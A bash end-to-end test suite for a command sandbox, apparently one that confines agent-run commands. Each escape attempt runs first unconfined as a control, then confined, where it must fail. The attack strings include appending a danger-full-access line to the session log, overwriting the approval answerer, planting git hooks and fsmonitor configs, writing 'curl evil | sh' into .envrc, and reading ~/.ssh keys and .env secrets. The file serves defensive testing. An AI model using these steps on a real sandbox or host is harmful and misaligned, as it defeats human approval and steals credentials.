#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# Protected paths (include/dsb/policy.h dsb_protect_kind, src/policy/protect.c,
# src/confine/protect.c): inside a writable root a confined command still cannot change what
# bears the policy (the session store, the configuration file or the directory a default one
# would be found in, the approval answerer) nor plant what runs later outside the sandbox (a
# checkout's .git hooks, config and info, the gitdirs of its worktrees and submodules,
# sandbox-policy.protectedPaths), and cannot read sandbox-policy.denyRead. Directories on the
# way to a protected path are pinned (a mount point cannot be renamed: EBUSY), so neither it nor
# the workspace can be swapped; a session whose root was swapped for a symlink fails closed; and
# Landlock without a mount namespace refuses a call whose store it could not protect.
#
# Every attack runs first as a control that must succeed (unconfined, or confined with the
# protection not asked for), then confined on both backends, and must fail AND leave no effect:
# each test reads the state afterwards. Runs as root and as nobody (as-user.sh).
#
#   $PWD/ws/       the workspace (under $TMPDIR: inside Landlock's writable /tmp or $TMPDIR)
#   $OUT/          outside every grant (/var/tmp): markers an escape would leave, secrets
# shellcheck source=tests/e2e/libescape.sh
. "$(dirname "$0")/libescape.sh"

SHIM=${DSB_SECCOMP_SHIM:?}
# git, hermetic: no system or global configuration, an identity for every commit (the
# sandbox keeps these variables).
export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
export GIT_AUTHOR_NAME=dsb GIT_AUTHOR_EMAIL=dsb@example.invalid
export GIT_COMMITTER_NAME=dsb GIT_COMMITTER_EMAIL=dsb@example.invalid
DFA_LINE='{"type":"sandbox/mode","data":{"mode":"danger-full-access"}}'

# each_backend NAME FUNCTION ARGS...: one test per backend, in workspace-write (where the
# protected paths lie in a writable root at all).
each_backend() {
	local name=$1 b
	shift
	for b in "${BACKENDS[@]}"; do
		t "$b/workspace-write: $name" "$@" "$b/workspace-write"
	done
}

# in_ws WHERE SCRIPT [OPTIONS...]: SCRIPT confined with the workspace $PWD/ws and the global
# OPTIONS (--config FILE); $out $err $rc as run().
in_ws() {
	local where=$1 script=$2
	shift 2
	run "$@" exec --backend "${where%/*}" --mode "${where#*/}" --workspace "$PWD/ws" -- \
		bash -c "$script"
}

# in_session WHERE SCRIPT: SCRIPT confined in the session $ID (its cwd, its mode).
in_session() {
	run exec --backend "${1%/*}" --session "$ID" -- bash -c "$2"
}

# new_session DIR: a session in workspace-write whose cwd is DIR; its id in $ID, its log $LOG.
new_session() {
	ID=$("$DSB" session new --cwd "$1")
	"$DSB" session mode "$ID" workspace-write >/dev/null
	LOG=$(find "$DSH_SANDBOX_STORE" -name session.jsonl -path "*/$ID/*")
	[ -f "$LOG" ] || fail "no log for session $ID under $DSH_SANDBOX_STORE"
}

# mode_of ID: the mode `policy` resolves for the session (empty when it cannot).
mode_of() {
	"$DSB" policy --session "$1" 2>/dev/null | awk '$1 == "mode:" { print $2 }'
}

# unchanged FILE COPY: FILE still has the bytes it had when COPY was taken.
unchanged() {
	cmp -s "$1" "$2" || fail "$1 changed: $(head -c 300 "$1" 2>&1)"
}

snapshot() {
	cp -p "$1" "$PWD/.snap.${1//\//_}"
	echo "$PWD/.snap.${1//\//_}"
}

# --- the session store ----------------------------------------------------------------------------

store_in_ws() {
	setup
	export DSH_SANDBOX_STORE=$PWD/ws/.state
	new_session "$PWD/ws"
}

case_store_log_control() {
	store_in_ws
	assert_streq "$(mode_of "$ID")" workspace-write
	attempt control "printf '%s\\n' '$DFA_LINE' >> '$LOG'"
	assert_rc 0
	assert_streq "$(mode_of "$ID")" danger-full-access
}

case_store_log() {
	store_in_ws
	local copy
	copy=$(snapshot "$LOG")
	in_session "$1" "printf '%s\\n' '$DFA_LINE' >> '$LOG'"
	refused "appending danger-full-access to the session's log"
	unchanged "$LOG" "$copy"
	assert_streq "$(mode_of "$ID")" workspace-write
	# With --workspace and --mode instead of the session: the same store, the same refusal.
	in_ws "$1" "printf '%s\\n' '$DFA_LINE' >> '$LOG'"
	refused "appending to the log in a sessionless call"
	unchanged "$LOG" "$copy"
}

# The store spelled through a symlink in the workspace: the bind protects its target, but the
# command could point the link at a store of its own for the next call. Control: unconfined,
# repointing the link makes the next call read the command's store.
store_through_link() {
	setup
	mkdir -p "$OUT/real-store" ws/own
	ln -s "$OUT/real-store" ws/store
	export DSH_SANDBOX_STORE=$PWD/ws/store
}

case_store_link_control() {
	store_through_link
	attempt control "rm '$PWD/ws/store' && ln -s '$PWD/ws/own' '$PWD/ws/store'"
	assert_rc 0
	assert_streq "$(readlink ws/store)" "$PWD/ws/own"
}

case_store_link() {
	store_through_link
	in_ws "$1" "touch '$PWD/ws/ran'; rm '$PWD/ws/store' && ln -s '$PWD/ws/own' '$PWD/ws/store'"
	assert_rc 125
	assert_contains "$err" "Runner failure: the store $PWD/ws/store leads through the symlink $PWD/ws/store in a writable root, which a command could repoint; give its real path"
	[ ! -e ws/ran ] || fail "the command ran"
	assert_streq "$(readlink ws/store)" "$OUT/real-store"
}

case_store_swap_control() {
	store_in_ws
	attempt control "mv '$PWD/ws/.state' '$PWD/ws/x' && mkdir '$PWD/ws/.state'"
	assert_rc 0
	assert_streq "$(mode_of "$ID")" ""
}

case_store_swap() {
	store_in_ws
	in_session "$1" "mv '$PWD/ws/.state' '$PWD/ws/x' && mkdir '$PWD/ws/.state'"
	refused "mv ws/.state ws/x && mkdir ws/.state"
	assert_contains "$err" "Device or resource busy"
	[ ! -e ws/x ] || fail "the store was moved: $(ls -lA ws)"
	[ -f "$LOG" ] || fail "the log is gone"
	assert_streq "$(mode_of "$ID")" workspace-write
}

# A session named by the path of its log, which lies in the workspace (the store is elsewhere):
# the log bears the mode all the same.
log_in_ws() {
	setup
	export DSH_SANDBOX_STORE=$OUT/store
	new_session "$PWD/ws"
	cp "$LOG" ws/session.jsonl
	ID=$PWD/ws/session.jsonl
	LOG=$ID
}

case_log_path_control() {
	log_in_ws
	assert_streq "$(mode_of "$ID")" workspace-write
	attempt control "printf '%s\\n' '$DFA_LINE' >> '$LOG'"
	assert_rc 0
	assert_streq "$(mode_of "$ID")" danger-full-access
}

case_log_path() {
	log_in_ws
	local copy
	copy=$(snapshot "$LOG")
	in_session "$1" "printf '%s\\n' '$DFA_LINE' >> '$LOG'"
	refused "appending danger-full-access to a log named by its path"
	unchanged "$LOG" "$copy"
	in_session "$1" "mv '$LOG' '$PWD/ws/x' && printf '%s\\n' \"\$(head -n1 '$PWD/ws/x')\" '$DFA_LINE' > '$LOG'"
	refused "replacing a log named by its path"
	unchanged "$LOG" "$copy"
	[ ! -e ws/x ] || fail "the log was moved: $(ls -lA ws)"
	assert_streq "$(mode_of "$ID")" workspace-write
}

# --- the configuration ----------------------------------------------------------------------------

DFA_CONFIG='sandbox-policy: {mode: danger-full-access}'

config_in_ws() {
	setup
	printf 'sandbox-policy: {protectGit: true}\n' >ws/dsh.yaml
}

config_mode() {
	"$DSB" --config "$PWD/ws/dsh.yaml" policy --workspace "$PWD/ws" | awk '$1 == "mode:" { print $2 }'
}

case_config_file_control() {
	config_in_ws
	assert_streq "$(config_mode)" read-only
	attempt control "echo '$DFA_CONFIG' > '$PWD/ws/dsh.yaml'"
	assert_rc 0
	assert_streq "$(config_mode)" danger-full-access
}

case_config_file() {
	config_in_ws
	local copy
	copy=$(snapshot ws/dsh.yaml)
	in_ws "$1" "echo '$DFA_CONFIG' > '$PWD/ws/dsh.yaml'" --config "$PWD/ws/dsh.yaml"
	refused "rewriting the configuration"
	unchanged ws/dsh.yaml "$copy"
	in_ws "$1" "mv '$PWD/ws/dsh.yaml' '$PWD/ws/old.yaml' || rm -f '$PWD/ws/dsh.yaml'
		echo '$DFA_CONFIG' > '$PWD/ws/dsh.yaml'" --config "$PWD/ws/dsh.yaml"
	refused "replacing the configuration"
	unchanged ws/dsh.yaml "$copy"
	[ ! -e ws/old.yaml ] || fail "the configuration was moved"
	assert_streq "$(config_mode)" read-only
}

# No configuration file and HOME=ws (XDG_CONFIG_HOME unset): the next call would read
# ws/.config/dsh-sandbox/config.yaml.
home_mode() {
	HOME=$PWD/ws "$DSB" policy --workspace "$PWD/ws" | awk '$1 == "mode:" { print $2 }'
}

case_default_config_control() {
	setup
	unset XDG_CONFIG_HOME
	assert_streq "$(home_mode)" read-only
	attempt control "mkdir -p '$PWD/ws/.config/dsh-sandbox' &&
		echo '$DFA_CONFIG' > '$PWD/ws/.config/dsh-sandbox/config.yaml'"
	assert_rc 0
	assert_streq "$(home_mode)" danger-full-access
}

case_default_config() {
	setup
	unset XDG_CONFIG_HOME
	export HOME=$PWD/ws
	in_ws "$1" "mkdir -p '$PWD/ws/.config/dsh-sandbox' &&
		echo '$DFA_CONFIG' > '$PWD/ws/.config/dsh-sandbox/config.yaml'"
	refused "planting ws/.config/dsh-sandbox/config.yaml"
	# Renamed away, the directory on the way would let a new one be made: pinned.
	in_ws "$1" "mv '$PWD/ws/.config' '$PWD/ws/.config.old' &&
		mkdir -p '$PWD/ws/.config/dsh-sandbox' &&
		echo '$DFA_CONFIG' > '$PWD/ws/.config/dsh-sandbox/config.yaml'"
	refused "renaming ws/.config away and planting a new one"
	[ ! -e ws/.config.old ] || fail "ws/.config was moved"
	[ ! -e ws/.config/dsh-sandbox/config.yaml ] || fail "a configuration was planted: $(cat ws/.config/dsh-sandbox/config.yaml)"
	assert_streq "$(home_mode)" read-only
}

# --- the approval answerer ------------------------------------------------------------------------

# A session (store outside the workspace) whose answerer, ws/approve.sh, rejects.
answerer_setup() {
	setup
	printf '#!/bin/sh\ncat >/dev/null\necho rejected\n' >ws/approve.sh
	chmod +x ws/approve.sh
	printf 'approval: {answerer: [%s/ws/approve.sh]}\n' "$PWD" >cfg.yaml
	new_session "$PWD/ws"
}

# escalate: asks for danger-full-access to touch $OUT/escalated.
escalate() {
	run --config "$PWD/cfg.yaml" exec --session "$ID" --sandbox-permissions danger-full-access \
		--justification 'the user asked for it' -- touch "$OUT/escalated"
}

# approve_cmd: the command that makes ws/approve.sh approve everything.
approve_cmd() {
	printf '%s\n' "printf '#!/bin/sh\\ncat >/dev/null\\necho allowed-once\\n' > '$PWD/ws/approve.sh'"
}

case_answerer_control() {
	answerer_setup
	escalate
	assert_rc 125
	[ ! -e "$OUT/escalated" ] || fail "the rejected escalation ran"
	attempt control "$(approve_cmd)"
	assert_rc 0
	escalate
	assert_rc 0
	[ -e "$OUT/escalated" ] || fail "the approved escalation did not run"
}

case_answerer() {
	answerer_setup
	local copy
	copy=$(snapshot ws/approve.sh)
	in_ws "$1" "$(approve_cmd)" --config "$PWD/cfg.yaml"
	refused "overwriting the answerer"
	unchanged ws/approve.sh "$copy"
	in_ws "$1" "rm -f '$PWD/ws/approve.sh'; $(approve_cmd)" --config "$PWD/cfg.yaml"
	refused "replacing the answerer"
	unchanged ws/approve.sh "$copy"
	escalate
	assert_rc 125
	[ ! -e "$OUT/escalated" ] || fail "the escalation ran"
}

# --- git ------------------------------------------------------------------------------------------

git_() {
	git -c init.defaultBranch=main "$@"
}

# mkrepo DIR: a repository with one commit.
mkrepo() {
	git_ init -q "$1"
	echo a >"$1/a"
	git -C "$1" add a
	git -C "$1" commit -qm one
}

# hook_cmd FILE: the command that makes FILE a hook leaving $OUT/pwned when git runs it.
hook_cmd() {
	printf '%s\n' "printf '#!/bin/sh\\ntouch $OUT/pwned\\n' > $1 && chmod +x $1"
}

git_setup() {
	setup
	mkrepo ws
	tar -C ws -cf "$PWD/dotgit.tar" .git
}

# commit_outside: what the user does next, unconfined: a commit, which runs pre-commit.
commit_outside() {
	git -C ws commit -q --allow-empty -m outside
}

# git_intact: .git is still a directory, its hooks, config and info byte for byte as they were.
git_intact() {
	if [ ! -d ws/.git ] || [ -L ws/.git ]; then
		fail "ws/.git is no longer a directory: $(ls -lA ws)"
	fi
	mkdir -p before
	tar -C before -xf dotgit.tar
	diff -r before/.git/hooks ws/.git/hooks >&2 || fail "ws/.git/hooks changed"
	diff -r before/.git/info ws/.git/info >&2 || fail "ws/.git/info changed"
	cmp -s before/.git/config ws/.git/config || fail "ws/.git/config changed: $(cat ws/.git/config)"
	[ ! -e ws/.git/hooks/pre-commit ] || fail "a pre-commit hook is there"
}

no_pwned() {
	[ ! -e "$OUT/pwned" ] || fail "git ran what the command planted"
}

# Without protectGit every attack below lands, confined: a hook the next commit outside runs,
# a line in .git/config, info/attributes, and .git renamed.
case_git_control() {
	git_setup
	printf 'sandbox-policy: {protectGit: false}\n' >cfg.yaml
	in_ws "$1" "cd '$PWD/ws' && $(hook_cmd .git/hooks/pre-commit)" --config "$PWD/cfg.yaml"
	assert_rc 0
	commit_outside
	[ -e "$OUT/pwned" ] || fail "the planted hook did not run"
	in_ws "$1" "cd '$PWD/ws' && printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config &&
		echo '* filter=evil' > .git/info/attributes" --config "$PWD/cfg.yaml"
	assert_rc 0
	assert_file_has_content ws/.git/config 'hooksPath = /tmp/evil'
	assert_file_has_content ws/.git/info/attributes 'filter=evil'
	in_ws "$1" "cd '$PWD/ws' && mv .git .g" --config "$PWD/cfg.yaml"
	assert_rc 0
	if [ ! -d ws/.g ] || [ -e ws/.git ]; then
		fail "mv .git .g did not land: $(ls -lA ws)"
	fi
}

case_git_hook() {
	git_setup
	in_ws "$1" "cd '$PWD/ws' && $(hook_cmd .git/hooks/pre-commit)"
	refused "writing .git/hooks/pre-commit"
	git_intact
	commit_outside
	no_pwned
}

case_git_config() {
	git_setup
	in_ws "$1" "cd '$PWD/ws' && printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config"
	refused "appending to .git/config"
	git_intact
}

case_git_info() {
	git_setup
	in_ws "$1" "cd '$PWD/ws' && echo '* filter=evil' > .git/info/attributes"
	refused "writing .git/info/attributes"
	git_intact
	[ ! -e ws/.git/info/attributes ] || fail "info/attributes was written"
}

case_git_mv() {
	git_setup
	in_ws "$1" "cd '$PWD/ws' && mv .git .g"
	refused "mv .git .g"
	assert_contains "$err" "Device or resource busy"
	[ ! -e ws/.g ] || fail ".git was moved to .g"
	git_intact
	git -C ws log --oneline | grep -q one || fail "the repository lost its commit"
}

# rm -rf removes what is writable for git's sake (objects, refs, index, HEAD); what bears
# policy stays, and .git itself.
case_git_rm() {
	git_setup
	in_ws "$1" "cd '$PWD/ws' && rm -rf .git"
	refused "rm -rf .git"
	git_intact
}

# commondir_cmd: in ws, an evil common dir (the repository's objects and refs with a config
# that runs a command whenever git looks at the worktree: core.fsmonitor), and .git/commondir
# pointing there.
commondir_cmd() {
	printf '%s\n' "cd '$PWD/ws' && mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/ &&
		printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch $OUT/pwned; false\"\\n' > evil/config &&
		echo ../evil > .git/commondir"
}

case_git_commondir_control() {
	git_setup
	attempt control "$(commondir_cmd)"
	assert_rc 0
	git -C ws status --short >/dev/null 2>&1 || true
	[ -e "$OUT/pwned" ] || fail "git did not follow the planted commondir"
}

# A missing .git/commondir points git's common dir (config, hooks) elsewhere once it exists.
# No mount can forbid a name that must stay absent (git dies on an empty one), so the write
# itself succeeds inside; the file is removed once the call has ended, before anything outside
# can run git.
case_git_commondir() {
	git_setup
	in_ws "$1" "$(commondir_cmd) && test -e .git/commondir"
	assert_rc 0
	[ ! -e ws/.git/commondir ] || fail "ws/.git/commondir was planted: $(cat ws/.git/commondir)"
	git -C ws status --short >/dev/null 2>&1 || true
	no_pwned
	git -C ws log --oneline | grep -q one || fail "the repository lost its commit"
}

# A linked worktree inside the workspace, and a repository the command makes whose config
# runs a command: repointing the worktree's .git file there.
worktree_setup() {
	git_setup
	git -C ws worktree add -q wt1 2>/dev/null
	cp ws/wt1/.git wt1.git
}

# repoint_cmd CHECKOUT: in ws, a repository whose config runs a command whenever git looks at
# its worktree, and CHECKOUT/.git pointing at it.
repoint_cmd() {
	echo "cd '$PWD/ws' && git init -q evil && git -C evil config core.fsmonitor 'touch $OUT/pwned; false' &&
		echo 'gitdir: ../evil/.git' > $1/.git"
}

# gitfile_control SETUP DIR: unconfined, repointing ws/DIR/.git makes git run the command's
# config; gitfile_attack SETUP DIR WHERE: confined, it fails and changes nothing.
gitfile_control() {
	"$1"
	attempt control "$(repoint_cmd "$2")"
	assert_rc 0
	git -C "ws/$2" status --short >/dev/null 2>&1 || true
	[ -e "$OUT/pwned" ] || fail "git did not follow the repointed .git file"
}

gitfile_attack() {
	"$1"
	in_ws "$3" "$(repoint_cmd "$2")"
	git -C "ws/$2" status --short >/dev/null 2>&1 || true
	no_pwned
	unchanged "ws/$2/.git" "$2.git"
	refused "repointing $2/.git"
}

case_worktree_control() {
	gitfile_control worktree_setup wt1
}

case_worktree() {
	gitfile_attack worktree_setup wt1 "$1"
}

# The workspace is itself a linked worktree (its .git a file) of a repository beside it.
case_worktree_root() {
	setup
	rmdir ws
	mkrepo main
	git -C main worktree add -q "$PWD/ws" 2>/dev/null
	cp ws/.git ws.git
	run exec --backend "${1%/*}" --mode "${1#*/}" --workspace "$PWD/ws" -- bash -c "
		cd '$PWD/ws'; echo 'gitdir: /tmp' > .git
		printf '#!/bin/sh\\ntouch $OUT/pwned\\n' > '$PWD/main/.git/hooks/pre-commit'"
	refused "repointing the workspace's .git file or planting a hook in the main repository"
	unchanged ws/.git ws.git
	[ ! -e main/.git/hooks/pre-commit ] || fail "a hook was planted in the main repository"
	git -C ws commit -q --allow-empty -m outside
	no_pwned
}

# A submodule, its gitdir in .git/modules/sub.
submodule_setup() {
	git_setup
	git_ init -q subsrc
	git -C subsrc commit -q --allow-empty -m s
	git -C ws -c protocol.file.allow=always submodule add -q "$PWD/subsrc" sub 2>/dev/null
	git -C ws commit -qm sub
	cp ws/sub/.git sub.git
	tar -C ws/.git/modules/sub -cf "$PWD/subgit.tar" hooks config
}

case_submodule_control() {
	submodule_setup
	attempt control "cd '$PWD/ws' && $(hook_cmd .git/modules/sub/hooks/pre-commit)"
	assert_rc 0
	git -C ws/sub commit -q --allow-empty -m outside
	[ -e "$OUT/pwned" ] || fail "the submodule's hook did not run"
}

case_submodule_hooks() {
	submodule_setup
	in_ws "$1" "cd '$PWD/ws' && $(hook_cmd .git/modules/sub/hooks/pre-commit)"
	refused "writing .git/modules/sub/hooks/pre-commit"
	in_ws "$1" "cd '$PWD/ws' && git config -f .git/modules/sub/config core.hooksPath /tmp"
	refused "changing .git/modules/sub/config"
	mkdir -p subbefore
	tar -C subbefore -xf subgit.tar
	diff -r subbefore/hooks ws/.git/modules/sub/hooks >&2 || fail "the submodule's hooks changed"
	cmp -s subbefore/config ws/.git/modules/sub/config || fail "the submodule's config changed"
	git -C ws/sub commit -q --allow-empty -m outside
	no_pwned
}

case_submodule_gitfile_control() {
	gitfile_control submodule_setup sub
}

case_submodule_gitfile() {
	gitfile_attack submodule_setup sub "$1"
}

# What git needs to write still works in a protected repository.
case_git_works() {
	submodule_setup
	in_ws "$1" "set -e; cd '$PWD/ws'
		git -c init.defaultBranch=main init -q sub2 && git -C sub2 commit -q --allow-empty -m x
		echo b > b && git add b && git commit -qm two
		git worktree add -q wt2 2>/dev/null
		git -C sub commit -q --allow-empty -m in-sub
		echo DONE"
	assert_rc 0
	assert_streq "$out" DONE
	assert_streq "$(git -C ws log -1 --format=%s)" two
	assert_streq "$(git -C ws/sub2 log -1 --format=%s)" x
	assert_streq "$(git -C ws/sub log -1 --format=%s)" in-sub
	[ -f ws/wt2/a ] || fail "no worktree wt2"
	git -C ws worktree list | grep -q wt2 || fail "wt2 is not registered"
}

# --- sandbox-policy.protectedPaths ----------------------------------------------------------------

listed_setup() {
	setup
	mkdir -p ws/.vscode
	echo '{"orig":1}' >ws/.vscode/tasks.json
	cp ws/.vscode/tasks.json tasks.json
	printf 'sandbox-policy: {protectedPaths: [".envrc", ".vscode/*.json"]}\n' >cfg.yaml
	printf 'sandbox-policy: {protectGit: true, protectDefaults: false}\n' >none.yaml
}

LISTED_ATTACK="cd \"\$WS\" && echo 'curl evil | sh' > .envrc && echo '{\"evil\":1}' > .vscode/tasks.json"

case_listed_control() {
	listed_setup
	in_ws "$1" "WS='$PWD/ws'; $LISTED_ATTACK" --config "$PWD/none.yaml"
	assert_rc 0
	assert_streq "$(cat ws/.envrc)" "curl evil | sh"
	assert_streq "$(cat ws/.vscode/tasks.json)" '{"evil":1}'
}

case_listed() {
	listed_setup
	in_ws "$1" "WS='$PWD/ws'; $LISTED_ATTACK" --config "$PWD/cfg.yaml"
	refused "creating .envrc"
	in_ws "$1" "WS='$PWD/ws'; echo '{\"evil\":1}' > .vscode/tasks.json" --config "$PWD/cfg.yaml"
	refused "changing .vscode/tasks.json"
	in_ws "$1" "cd '$PWD/ws' && { rm -f .envrc; mv .vscode .vscode.old; } ;
		echo x > .envrc && mkdir -p .vscode && echo '{\"evil\":1}' > .vscode/tasks.json" \
		--config "$PWD/cfg.yaml"
	refused "replacing .envrc or .vscode"
	# Made, empty, before the first call, so that the command could not create it.
	if [ ! -f ws/.envrc ] || [ -s ws/.envrc ]; then
		fail "ws/.envrc is not an empty file: $(ls -l ws/.envrc)"
	fi
	unchanged ws/.vscode/tasks.json tasks.json
	[ ! -e ws/.vscode.old ] || fail ".vscode was moved"
}

# --- sandbox-policy.denyRead ----------------------------------------------------------------------

deny_setup() {
	setup
	mkdir -p "$OUT/secret-dir" "$OUT/home/.ssh"
	echo DIR-SECRET >"$OUT/secret-dir/key"
	echo FILE-SECRET >"$OUT/secret-file"
	echo SSH-SECRET >"$OUT/home/.ssh/id_ed25519"
	echo WS-SECRET >ws/.env
	export HOME=$OUT/home
	printf 'sandbox-policy: {denyRead: ["%s/secret-dir", "%s/secret-file", "~/.ssh", "%s/ws/.env"]}\n' \
		"$OUT" "$OUT" "$PWD" >cfg.yaml
	printf 'sandbox-policy: {protectGit: true}\n' >none.yaml
}

# ws/.env, in the workspace, is also moved aside to be read where it is not hidden.
READ_SECRETS="cat \"\$O/secret-file\"; ls -la \"\$O/secret-dir\"; cat \"\$O/secret-dir/key\";
	cat ~/.ssh/id_ed25519; ls -la ~/.ssh; cat \"\$W/.env\"; mv \"\$W/.env\" \"\$W/moved\" && cat \"\$W/moved\"; true"

case_deny_control() {
	deny_setup
	in_ws "$1" "O='$OUT' W='$PWD/ws'; $READ_SECRETS" --config "$PWD/none.yaml"
	assert_rc 0
	assert_contains "$out" FILE-SECRET
	assert_contains "$out" DIR-SECRET
	assert_contains "$out" SSH-SECRET
	assert_contains "$out" id_ed25519
	assert_contains "$out" WS-SECRET
}

case_deny() {
	deny_setup
	in_ws "$1" "O='$OUT' W='$PWD/ws'; $READ_SECRETS" --config "$PWD/cfg.yaml"
	assert_rc 0
	assert_not_contains "$out$err" SECRET
	# Not even the names in the hidden directories (the errors name the paths asked for).
	assert_not_contains "$out" id_ed25519
	assert_not_contains "$out" key
	assert_streq "$(cat "$OUT/secret-file")" FILE-SECRET
	assert_streq "$(cat ws/.env)" WS-SECRET
}

# --- the workspace root swapped for a symlink -----------------------------------------------------

SWAP="cd \"\$P\" && mv ws ws.old && ln -s / ws"

# The store is $TEST_TMP/store, in a temp dir: a protected path in Landlock's writable roots.
case_swap() {
	setup
	new_session "$PWD/ws"
	in_session "$1" "P='$PWD'; $SWAP"
	refused "mv ws ws.old && ln -s / ws"
	assert_contains "$err" "Device or resource busy"
	if [ ! -d ws ] || [ -L ws ] || [ -e ws.old ]; then
		fail "the workspace was swapped: $(ls -ld ws ws.old 2>&1)"
	fi
}

# Nothing else to protect in a writable root: the store and the default configuration
# directory outside them, no git. The workspace must not be swappable all the same.
case_swap_unprotected() {
	setup
	export DSH_SANDBOX_STORE=$OUT/store XDG_CONFIG_HOME=$OUT/xdg
	new_session "$PWD/ws"
	in_session "$1" "P='$PWD'; $SWAP"
	if [ ! -d ws ] || [ -L ws ] || [ -e ws.old ]; then
		fail "the workspace was swapped: $(ls -ld ws ws.old 2>&1)"
	fi
	refused "mv ws ws.old && ln -s / ws (nothing else protected)"
}

# TMPDIR inside /tmp and the workspace inside TMPDIR (pam_tmpdir's /tmp/user/UID): renaming
# TMPDIR, an ancestor of the workspace below /tmp, would move the protected repository away
# and let the command make its own at the workspace's path. (bwrap shows neither /tmp nor
# TMPDIR but a private tmpfs holding the workspace's bind: a rename there changes nothing
# outside, which is what is checked.)
case_swap_tmpdir() {
	setup
	mkdir -p tmpd
	mv ws tmpd/ws
	mkrepo tmpd/ws
	TMPDIR=$PWD/tmpd run exec --backend "${1%/*}" --mode "${1#*/}" --workspace "$PWD/tmpd/ws" -- \
		bash -c "cd '$PWD' && mv tmpd tmpd.old && mkdir -p tmpd/ws && git -c init.defaultBranch=main init -q tmpd/ws"
	git -C tmpd/ws log --oneline 2>/dev/null | grep -q one ||
		fail "the repository at the workspace's path is not the original: $(ls -lA)"
	# Both backends show the call a /tmp of its own (docs/design/paths.md): a rename, if
	# any, happened there; the host's TMPDIR stays.
	[ ! -e tmpd.old ] || fail "TMPDIR was renamed: $(ls -lA)"
}

case_swap_unconfined() {
	setup
	new_session "$PWD/ws"
	attempt control "P='$PWD'; $SWAP"
	assert_rc 0
	[ -L ws ] || fail "no swap"
	in_session "$1" "touch '$OUT/ran'"
	assert_rc 125
	assert_contains "$err" "swapped"
	[ ! -e "$OUT/ran" ] || fail "the command ran in the swapped root"
}

# --- Landlock without a mount namespace -----------------------------------------------------------

# The seccomp shim refuses namespaces: bwrap cannot start, the probe selects Landlock, which
# then cannot bind anything. A fresh store (no cached verdict) each time.
case_no_mount_ns_store_in_ws() {
	setup
	# The default configuration directory outside the writable roots: the store is the refusal.
	export XDG_CONFIG_HOME=$OUT/xdg
	rc=0
	"$SHIM" --no-namespaces -- "$DSB" --store "$PWD/ws/.state" exec --mode workspace-write \
		--workspace "$PWD/ws" -- touch "$PWD/ws/marker" >.out 2>.err || rc=$?
	err=$(cat .err)
	assert_rc 125
	assert_contains "$err" "Runner failure: the store $PWD/ws/.state lies in a writable root and no mount namespace can be made here to protect it; move the store out of the writable roots (--store or DSH_SANDBOX_STORE)"
	[ ! -e ws/marker ] || fail "the command ran"
}

# Store and default configuration directory outside the writable roots: the call runs (the
# git set goes unprotected, the documented degradation).
case_no_mount_ns_store_outside() {
	setup
	mkrepo ws
	export XDG_CONFIG_HOME=$OUT/xdg
	"$SHIM" --no-namespaces -- "$DSB" --store "$OUT/store" probe --fresh >probe.txt
	assert_file_has_content probe.txt "selected: landlock"
	rc=0
	"$SHIM" --no-namespaces -- "$DSB" --store "$OUT/store" exec --mode workspace-write \
		--workspace "$PWD/ws" -- touch "$PWD/ws/marker" >.out 2>.err || rc=$?
	err=$(cat .err)
	assert_rc 0
	[ -e ws/marker ] || fail "the command did not run"
}

# --- the table ------------------------------------------------------------------------------------

t "control: unconfined, a sandbox/mode line appended to a session's log switches it to danger-full-access" case_store_log_control
each_backend "store in the workspace: appending danger-full-access to the session's log is refused; log and mode unchanged" case_store_log
t "control: unconfined, mv ws/.state ws/x && mkdir ws/.state replaces the store" case_store_swap_control
each_backend "store in the workspace: mv ws/.state ws/x && mkdir ws/.state fails (EBUSY); the store stays" case_store_swap
t "control: unconfined, a mode switch appended to a log named by its path (in the workspace) takes effect" case_log_path_control
each_backend "a session log named by its path in the workspace can be neither appended to nor replaced" case_log_path
t "control: unconfined, a store symlink in the workspace can be repointed" case_store_link_control
each_backend "a store spelled through a symlink in the workspace fails closed; nothing runs" case_store_link

t "control: unconfined, rewriting ws/dsh.yaml makes the policy danger-full-access" case_config_file_control
each_backend "--config ws/dsh.yaml cannot be rewritten or replaced" case_config_file
t "control: unconfined, HOME=ws: planting ws/.config/dsh-sandbox/config.yaml makes the policy danger-full-access" case_default_config_control
each_backend "HOME=ws, no configuration: ws/.config/dsh-sandbox/config.yaml cannot be planted" case_default_config

t "control: unconfined, overwriting the answerer ws/approve.sh turns a rejected escalation into a run" case_answerer_control
each_backend "the answerer ws/approve.sh cannot be overwritten; the escalation stays rejected" case_answerer

for b in "${BACKENDS[@]}"; do
	t "control: $b/workspace-write, protectGit: false: a planted hook runs at the next commit outside; .git/config, info/attributes change; mv .git .g works" case_git_control "$b/workspace-write"
done
each_confined "writing .git/hooks/pre-commit fails; the next commit outside runs nothing" case_git_hook
each_backend "appending to .git/config fails" case_git_config
each_backend "writing .git/info/attributes fails" case_git_info
each_backend "mv .git .g fails (EBUSY); .git intact" case_git_mv
each_backend "rm -rf .git fails; .git, its hooks, config and info stay" case_git_rm
t "control: unconfined, a planted .git/commondir makes git run the command's config" case_git_commondir_control
each_backend "a planted .git/commondir is gone after the call" case_git_commondir
t "control: unconfined, repointing a linked worktree's .git file makes git run the command's config" case_worktree_control
each_backend "a linked worktree's .git file inside the workspace cannot be repointed" case_worktree
each_backend "the workspace is a linked worktree: its .git file and the main repository's hooks are protected" case_worktree_root
t "control: unconfined, a hook in .git/modules/sub/hooks runs at the next commit in the submodule" case_submodule_control
each_backend "a submodule's gitdir (.git/modules/sub: hooks, config) is protected" case_submodule_hooks
t "control: unconfined, repointing a submodule's .git file makes git run the command's config" case_submodule_gitfile_control
each_backend "a submodule's .git file cannot be repointed" case_submodule_gitfile
each_backend "git init, add, commit, worktree add and a commit in a submodule work in a protected repository" case_git_works

for b in "${BACKENDS[@]}"; do
	t "control: $b/workspace-write, no protectedPaths: .envrc is created and .vscode/tasks.json changed" case_listed_control "$b/workspace-write"
done
each_backend "protectedPaths [.envrc, .vscode/*.json]: .envrc stays empty, tasks.json unchanged" case_listed

for b in "${BACKENDS[@]}"; do
	t "control: $b/workspace-write, no denyRead: the secret file, directory, ~/.ssh and ws/.env are read" case_deny_control "$b/workspace-write"
done
each_confined "denyRead: a secret file, directory, ~/.ssh and ws/.env read as nothing" case_deny

each_backend "session root in a temp dir: mv ws ws.old && ln -s / ws fails (EBUSY)" case_swap
